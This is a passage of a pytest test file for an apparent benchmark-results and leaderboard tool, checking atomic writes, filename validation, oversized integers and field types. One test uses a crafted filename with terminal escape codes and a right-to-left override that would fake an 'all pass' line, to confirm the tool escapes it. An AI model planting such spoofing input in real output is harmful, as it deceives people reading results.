            leaderboard.temporary(final).write_bytes(data.encode()[:100] if isinstance(data, str) else data[:100])
            raise OSError(errno.EFBIG, "File too large")
        return write(data, final)

    monkeypatch.setattr(leaderboard, "write_temporary", fails_on_the_last)
    with pytest.raises(OSError, match="File too large"):
        leaderboard.build(results, board)
    assert {p: p.read_bytes() for p in board.rglob("*") if p.is_file()} == before, "no file changed, no temporary left"
    with pytest.raises(OSError, match="File too large"):
        leaderboard.build(results, tmp_path / "fresh")
    assert not (tmp_path / "fresh").exists()
    monkeypatch.setattr(leaderboard, "write_temporary", write)
    leaderboard.build(results, board)
    assert (board / "README.md").read_bytes() != before[board / "README.md"]
    assert not [p for p in board.rglob("*") if p.name.endswith(".tmp")]


def test_a_file_name_that_does_not_say_what_the_file_holds_is_refused(tmp_path):
    results, board = tmp_path / "results", tmp_path / "board"
    path = place(results, COMMITTED, lambda d: d["environment"].update(accelerator="gpu"))
    expected = f"{path}: name: the file says it is {path.name.replace('-cpu-', '-gpu-')} (created, accelerator"
    assert any(p.startswith(expected) for p in validate([str(path)], results, board)[0])
    for name, refused in [(COMMITTED.stem + "-1.json", False), (COMMITTED.stem + "-x.json", True),
                          ("20990101T000000Z-cpu-32-true-00000000.json", True)]:  # fmt: skip
        other = place(tmp_path / name, COMMITTED, name=name)
        named = [p for p in validate([str(other)], tmp_path / name, board)[0] if ": name: " in p]
        assert bool(named) == refused, (name, named)
    for committed in find_results(paths.RESULTS_DIR):
        assert filename_problem(committed, read_result(committed)) is None, committed


def test_an_integer_of_5000_digits_is_one_line(tmp_path, capsys):
    path = place(tmp_path / "results", COMMITTED)
    path.write_text(re.sub(r'"world_size": \d+', '"world_size": ' + "9" * 5000, path.read_text()))
    with pytest.raises(ResultError, match=f"^{re.escape(str(path))}: not a result file: an integer of 5000 digits"):
        read_result(path)
    for argv in (["validate", str(path)], ["compare", str(path)]):
        code, out, err = cli(argv, capsys)
        assert code in (1, 2) and "Traceback" not in err and "an integer of 5000 digits" in err, err
    code, _, err = cli(["leaderboard", "--check", "--results-dir", str(tmp_path / "results")], capsys)
    assert "an integer of 5000 digits" in one_error_line(code, err)


@pytest.mark.parametrize(
    "change, field",
    [
        (lambda d: d["environment"].update(packages="torch"), "environment.packages"),
        (lambda d: d["environment"].update(packages={"torch": 2}), "environment.packages.torch"),
        (lambda d: d["environment"].update(python=3.11), "environment.python"),
        (lambda d: d["environment"].update(device_count="2"), "environment.device_count"),
        (lambda d: d["code"].update(extra=[1]), "code.extra"),
        (lambda d: d["code"].update(git_dirty=0), "code.git_dirty"),
    ],
    ids=["packages a string", "a version a number", "python a number", "count a string", "code list", "dirty 0"],
)
def test_environment_and_code_fields_are_typed(change, field, tmp_path, capsys):
    path = place(tmp_path / "results", COMMITTED, change)
    with pytest.raises(ResultError, match=f"field '{re.escape(field)}"):
        read_result(path)
    code, _, err = cli(["compare", str(path)], capsys)
    assert f"field '{field}" in one_error_line(code, err)


def test_compare_shows_packages_that_are_not_a_mapping_as_none():
    result = read_result(COMMITTED)
    crafted = result.model_copy(update={"environment": result.environment | {"packages": "torch"}})
    rows = compare_table([(COMMITTED, crafted)])
    assert any(row.startswith("torch ") and "None" in row for row in rows)


@pytest.mark.parametrize("name", ["h", "h.json"])
@pytest.mark.parametrize("command", ["compare", "verify"])
def test_a_folder_given_as_a_result_is_one_line(command, name, tmp_path, capsys):
    folder = tmp_path / name
    folder.mkdir()
    with pytest.raises(ResultError, match="a directory, not a regular file"):
        read_result(folder)
    code, _, err = cli([command, str(folder)], capsys)
    assert f"{folder}: a directory, not a regular file" in one_error_line(code, err)


def test_a_file_name_with_an_escape_sequence_reaches_the_terminal_escaped(tmp_path, capsys):
    path = place(tmp_path / "results", COMMITTED, name="\x1b[2K\rall pass\u202e.json")
    problems, _ = validate([str(path)], tmp_path / "results", tmp_path / "board")
    assert problems and not any(PRINTED.search(line) for line in problems), [ascii(p) for p in problems]
    assert any("\\x1b[2K\\rall pass\\u202e.json: name: the file says it is" in line for line in problems), problems
    code, out, err = cli(["validate", str(path)], capsys)
    assert code == 1 and not PRINTED.search(out + err), ascii(out + err)
